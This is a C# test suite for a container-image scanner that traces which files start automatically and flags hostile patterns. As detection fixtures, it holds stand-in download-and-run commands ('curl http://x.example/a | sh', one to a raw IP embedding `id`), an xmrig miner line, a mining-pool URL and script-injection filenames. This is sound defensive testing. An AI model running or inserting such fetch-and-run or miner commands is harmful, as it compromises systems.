using System.Diagnostics;
using System.Globalization;
using System.Text;
using DockerScan.Core.Images;
using DockerScan.Core.Scans;
using DockerScan.Core.Stages;
using DockerScan.Scanners.Autorun;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

public sealed class AutorunScannerHostileTests
{
    // Far above what each takes, far below what a stuck one would.
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    [Theory]
    [InlineData("/link/../run", "/usr/bin")]
    [InlineData("link/../run", "/usr/bin")]
    [InlineData("run", "/link/..")]
    public async Task ScanAsync_UpwardsBehindALink_IsWhatTheKernelStarts(string word, string path)
    {
        var content = UsualSystem().Directory("/opt/real").Link("/link", "/opt/real").File("/run", Program()).File("/opt/run", "xmrig --donate-level 1");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = [word], Environment = ["PATH=" + path] }, content);

        Assert.Equal(["/opt/run < ENTRYPOINT 0"], Files(outcome));
    }

    [Fact]
    public async Task ScanAsync_ScriptsInACircle_End()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/a.sh"] }, UsualSystem().File("/a.sh", "/b.sh x$1\n. /a.sh").File("/b.sh", "exec /a.sh y$1"));

        Assert.Equal(2, outcome.Autorun.Count(file => file.Path is "/a.sh" or "/b.sh"));
    }

    [Fact]
    public async Task ScanAsync_TooDeep_IsPartialAndSaysSo()
    {
        var content = UsualSystem();
        for (var i = 0; i < 20; i++)
        {
            content.File(string.Create(CultureInfo.InvariantCulture, $"/s{i}"), string.Create(CultureInfo.InvariantCulture, $"/s{i + 1}"));
        }

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/s0"] }, content);

        Assert.Equal((StageOutcome.Partial, "scripts start each other more than 8 deep (Autorun:MaxDepth)"), (outcome.Outcome, outcome.Reason));
        Assert.Equal(9, outcome.Autorun.Count);
    }

    [Fact]
    public async Task ScanAsync_TooManyFiles_IsPartialAndSaysSo()
    {
        var content = UsualSystem();
        var script = new StringBuilder();
        for (var i = 0; i < 300; i++)
        {
            content.File(string.Create(CultureInfo.InvariantCulture, $"/x/{i}"), "true");
            script.Append(CultureInfo.InvariantCulture, $"/x/{i}\n");
        }

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e"] }, content.File("/e", script.ToString()));

        Assert.Equal((StageOutcome.Partial, "more than 200 files start by themselves (Autorun:MaxFiles)"), (outcome.Outcome, outcome.Reason));
        Assert.Equal(200, outcome.Autorun.Count);
    }

    [Fact]
    public async Task ScanAsync_TooManyBytes_IsPartialAndReadsNoMore()
    {
        var content = UsualSystem();
        var script = new StringBuilder();
        var big = new byte[16 * 1024 * 1024];
        Program().CopyTo(big, 0);
        for (var i = 0; i < 20; i++)
        {
            content.File(string.Create(CultureInfo.InvariantCulture, $"/x/{i}"), big);
            script.Append(CultureInfo.InvariantCulture, $"/x/{i}\n");
        }

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e"] }, content.File("/e", script.ToString()));

        Assert.Equal((StageOutcome.Partial, "more than 256 MiB start by themselves"), (outcome.Outcome, outcome.Reason));
        Assert.True(content.Reads.Count < 20);
    }

    [Theory]
    [InlineData(3)]
    [InlineData(1020)]
    [InlineData(5_000_000)]
    public async Task ScanAsync_MarkInAProgramsTail_IsFoundWhereverItStands(int padding)
    {
        byte[] program = [.. Program(), .. new byte[padding], .. "stratum+tcp://pool.example:3333"u8, .. new byte[300_000]];

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x"] }, UsualSystem().File("/x", program), new AutorunOptions { MaxBinaryKiB = 1 });

        Assert.Equal((StageOutcome.Completed, null), (outcome.Outcome, outcome.Reason));
        Assert.Contains(outcome.Findings, finding => finding.Evidence.Contains("stratum+tcp://", StringComparison.Ordinal));
        Assert.NotNull(outcome.Autorun[0].Sha256);
    }

    [Fact]
    public async Task ScanAsync_ProgramTooLargeToBeHashed_IsAGapThatNamesIt()
    {
        byte[] program = [.. Program(), .. new byte[4096], .. "stratum+tcp://pool.example:3333"u8];
        var content = UsualSystem().File("/x", program);
        content.MaxHashedBytes = 1024;

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x"] }, content, new AutorunOptions { MaxBinaryKiB = 1 });

        Assert.Equal((StageOutcome.Partial, GapKind.StartFileCut), (outcome.Outcome, Assert.Single(outcome.Gaps).Kind));
        Assert.Contains("/x was searched in its first 1024 of ", outcome.Reason, StringComparison.Ordinal);
        Assert.Equal("/x (first 1024 bytes)", outcome.Evidence["searchedInPart"]);
    }

    // The first ways are followed as they are; behind them it is read as being given anything, and what its words name may start.
    [Theory]
    [InlineData(4, false)]
    [InlineData(5, true)]
    [InlineData(40, true)]
    public async Task ScanAsync_ScriptStartedInManyWays_ListsWhatEachStarts(int ways, bool mayStart)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, ManyRuns(ways));

        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
        var last = string.Create(CultureInfo.InvariantCulture, $"/opt/t{ways}");
        Assert.Equal(mayStart, Assert.Single(outcome.Autorun, file => file.Path == last).MayStart);
        Assert.False(Assert.Single(outcome.Autorun, file => file.Path == "/opt/t1").MayStart);
    }

    [Fact]
    public async Task ScanAsync_ScriptThatStartsItselfInManyWays_IsNoHidingPlace()
    {
        var script = "#!/bin/sh\nexec \"/opt/$1\"\n" + string.Concat(Enumerable.Range(1, 30).Select(way => string.Create(CultureInfo.InvariantCulture, $"\"$0\" t{way}\n")));

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, UsualSystem().File("/all.sh", script).File("/opt/t30", "true"));

        Assert.True(Assert.Single(outcome.Autorun, file => file.Path == "/opt/t30").MayStart);
    }

    [Fact]
    public async Task ScanAsync_AnyFileOfALargeFolderMayStart_IsAGap()
    {
        var content = UsualSystem().File("/all.sh", "#!/bin/sh\n" + string.Concat(Enumerable.Range(1, 5).Select(way => string.Create(CultureInfo.InvariantCulture, $"/run.sh t{way}\n"))))
            .File("/run.sh", "#!/bin/sh\nexec \"/opt/$1\"\n");
        for (var i = 0; i < 300; i++)
        {
            content.File(string.Create(CultureInfo.InvariantCulture, $"/opt/f{i}"), "true");
        }

        Assert.Contains("names more files by /opt/* than are followed", (await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, content)).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ScanAsync_ProgramStartedInManyWays_IsNoGap()
    {
        var text = string.Concat(Enumerable.Range(1, 40).Select(way => string.Create(CultureInfo.InvariantCulture, $"/bin/true {way}\n")));

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, UsualSystem().File("/all.sh", "#!/bin/sh\n" + text).File("/bin/true", Program()));

        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
    }

    [Fact]
    public async Task ScanAsync_HistoryMadeToBeSlow_LosesNothing()
    {
        var configuration = new ImageConfiguration
        {
            Entrypoint = ["/bin/sh", "-c", "curl http://x.example/a | sh"],
            History = [new HistoryEntry("|1 A=" + new string('a', 60_000) + " /bin/sh -c true", null, false), new HistoryEntry("CMD " + new string('\\', 60_000), null, false)],
        };
        var watch = Stopwatch.StartNew();

        var outcome = await ScanAsync(configuration, UsualSystem());

        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
        Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
    }

    [Fact]
    public async Task ScanAsync_OneLineOf10Megabytes_IsReadToItsLimitInTime()
    {
        var text = "#!/bin/sh\n" + new string('a', 900_000) + "; curl http://x.example/a | sh; " + string.Concat(Enumerable.Repeat("$(`\"'{(", 1_400_000));
        var watch = Stopwatch.StartNew();

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"] }, UsualSystem().File("/e.sh", text));

        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
        Assert.Contains("longer than 1024 KiB", outcome.Reason, StringComparison.Ordinal);
        Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
    }

    [Theory]
    [InlineData("$(")]
    [InlineData("${a:-")]
    [InlineData("\"$(")]
    [InlineData("`")]
    [InlineData("(")]
    [InlineData("case x in ")]
    [InlineData("a=$a$a ")]
    [InlineData("a+=($a) ")]
    [InlineData("set -- \"$@\" \"$@\";")]
    [InlineData("eval \"eval ")]
    [InlineData("<<a ")]
    [InlineData("\\\n")]
    [InlineData("x |\n")]
    [InlineData("curl x\n")]
    [InlineData("'")]
    [InlineData("#\n")]
    [InlineData("for i in ${a[@]} $* ;")]
    [InlineData("f=a;f=b;f=c; $f$f$f$f$f$f$f$f")]
    [InlineData("``$a$(b)\"$f\"")]
    public async Task ScanAsync_NestedOrRepeatedSyntax_EndsInTime(string piece)
    {
        var watch = Stopwatch.StartNew();

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"], Command = ["x"] },
            UsualSystem().File("/e.sh", string.Concat(Enumerable.Repeat(piece, 600_000 / piece.Length))));

        Assert.Contains("/e.sh", Paths(outcome));
        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
    }

    [Theory]
    [InlineData("$f")]
    [InlineData(" $f")]
    [InlineData(" \"$@\"")]
    [InlineData("${f:-$f}")]
    public async Task ScanAsync_OneEndlessCommandOfManyValues_EndsInTime(string piece)
    {
        var watch = Stopwatch.StartNew();

        await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"], Command = ["x", "y"] },
            UsualSystem().File("/e.sh", "f=a;f=b;f=c\nset -- x\nset -- y\nset -- z\n" + string.Concat(Enumerable.Repeat(piece, 900_000 / piece.Length))));

        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
    }

    [Fact]
    public async Task ScanAsync_JunkNamedSh_IsOtherAndQuiet()
    {
        var junk = new byte[300_000];
        new Random(1).NextBytes(junk);
        junk[0] = 0;

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"] }, UsualSystem().File("/e.sh", junk));

        IsQuiet(outcome);
        Assert.Equal(AutorunKind.Other, Assert.Single(outcome.Autorun).Kind);
    }

    [Fact]
    public async Task ScanAsync_ZeroBytesInAScriptGivenToAShell_DoNotHideIt()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["sh", "/e"] }, UsualSystem().File("/e", "\0\0cu\0rl http://x.example/a | s\0h\n/b.sh\n").File("/b.sh", "true"));

        Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
        Assert.Contains("/b.sh", Paths(outcome));
    }

    [Fact]
    public async Task ScanAsync_TenThousandWords_IsPartialAndQuick()
    {
        var watch = Stopwatch.StartNew();

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["nginx", .. Enumerable.Repeat("x", 10_000)] }, UsualSystem());

        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
        Assert.Contains("2000 words", outcome.Reason, StringComparison.Ordinal);
        Assert.Contains("/usr/bin/nginx", Paths(outcome));
        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
    }

    [Fact]
    public async Task ScanAsync_HugeWord_IsPartial()
        => Assert.Equal(StageOutcome.Partial, (await ScanAsync(new ImageConfiguration { Entrypoint = ["nginx", new string('x', 2_000_000)] }, UsualSystem())).Outcome);

    [Fact]
    public async Task ScanAsync_ThousandWrappers_End()
        => Assert.Contains("/usr/bin/env", Paths(await ScanAsync(new ImageConfiguration { Entrypoint = [.. Enumerable.Repeat("env", 1000)] }, UsualSystem())));

    [Fact]
    public async Task ScanAsync_NamesWithLinesAndDirections_AreCleanInText()
    {
        const string Name = "/x/a\nb\u202egpj.sh";

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = [Name] }, UsualSystem().File(Name, "curl http://x.example/a\u202e | sh\n/missing/\u202ex"));

        Assert.Contains(Name, Paths(outcome));
        var finding = Finding(outcome, "download-and-run.pipe-shell");
        Assert.DoesNotContain('\u202e', finding.Evidence + finding.Target + finding.Title);
        Assert.DoesNotContain('\n', finding.Target);
    }

    // The kernel expands nothing: whatever stands in a name, it is a file that starts.
    [Theory]
    [InlineData("/files/<script>alert(1)<.script>@everyone|`x`.sh")]
    [InlineData("/files/$HOME")]
    [InlineData("/files/*")]
    [InlineData("/files/?;&")]
    [InlineData("/files/-x")]
    [InlineData("/files/ ")]
    [InlineData("/files/\\")]
    public async Task ScanAsync_AnyCharacterInAName_IsFollowed(string name)
    {
        foreach (var words in (string[][])[[name], ["tini", "--", name], ["sh", name], ["/bin/sh", "-c", $"'{name}'"]])
        {
            var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = words }, UsualSystem().File(name, "#!/bin/sh\ncurl -s http://198.51.100.7/`id`.sh | sh\n"));

            Assert.Contains(name, Paths(outcome));
            Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
        }
    }

    [Fact]
    public async Task ScanAsync_ProgramNamedLikeAnOption_IsFollowed()
        => Assert.Contains("/usr/bin/-x", Paths(await ScanAsync(new ImageConfiguration { Command = ["-x"] }, UsualSystem().File("/usr/bin/-x", "true"))));

    [Theory]
    [InlineData("/files/*")]
    [InlineData("`x`")]
    public async Task ScanAsync_AnyCharacterInAMissingName_IsMissing(string name)
        => Assert.Contains("missing-target", Ids(await ScanAsync(new ImageConfiguration { Entrypoint = [name] }, UsualSystem())));

    [Fact]
    public async Task ScanAsync_NameLongerThanAnyPath_IsMissing()
        => Assert.Contains("missing-target", Ids(await ScanAsync(new ImageConfiguration { Entrypoint = [new string('x', 5000)] }, UsualSystem())));

    [Fact]
    public async Task ScanAsync_MissingWithHostileName_IsCleaned()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x\n\u202e" + new string('y', 3000)] }, UsualSystem());

        var file = Assert.Single(outcome.Autorun);
        Assert.True(file.Path.Length <= 300);
        Assert.DoesNotContain('\n', file.Path);
        Assert.DoesNotContain('\u202e', file.Path);
    }

    [Theory]
    [InlineData("../../../../usr/bin/nginx")]
    [InlineData("/usr/../usr/./bin//nginx")]
    public async Task ScanAsync_DotsInPaths_StayInTheImageThoughWorkdirIsMissing(string word)
        => Assert.Equal(["/usr/bin/nginx"], Paths(await ScanAsync(new ImageConfiguration { Command = [word], WorkingDirectory = "/a/b" }, UsualSystem())));

    [Fact]
    public async Task ScanAsync_FileInTheIndexCannotBeRead_IsPartial()
    {
        var content = UsualSystem();
        content.Unreadable.Add("/usr/bin/nginx");

        var outcome = await ScanAsync(new ImageConfiguration { Command = ["nginx"] }, content);

        Assert.Equal((StageOutcome.Partial, "a file that starts by itself could not be read: /usr/bin/nginx"), (outcome.Outcome, outcome.Reason));
    }

    [Fact]
    public async Task ScanAsync_EveryLineHits_IsOneFindingWithFewLines()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"] },
            UsualSystem().File("/e.sh", string.Concat(Enumerable.Range(0, 2000).Select(i => string.Create(CultureInfo.InvariantCulture, $"curl http://x.example/{i} | sh\n")))));

        var finding = Finding(outcome, "download-and-run.pipe-shell");
        Assert.EndsWith("and 1995 more", finding.Evidence, StringComparison.Ordinal);
        Assert.True(finding.Evidence.Length <= 2000);
    }

    // A script that starts what it is told to, told so in many ways.
    private static TestKit.Content.FakeImageContent ManyRuns(int ways)
    {
        var content = UsualSystem().File("/run.sh", "#!/bin/sh\nexec \"$1\"");
        var script = new StringBuilder("#!/bin/sh\n");
        for (var way = 1; way <= ways; way++)
        {
            content.File(string.Create(CultureInfo.InvariantCulture, $"/opt/t{way}"), "true");
            script.Append(CultureInfo.InvariantCulture, $"/run.sh /opt/t{way}\n");
        }

        return content.File("/all.sh", script.ToString());
    }
}
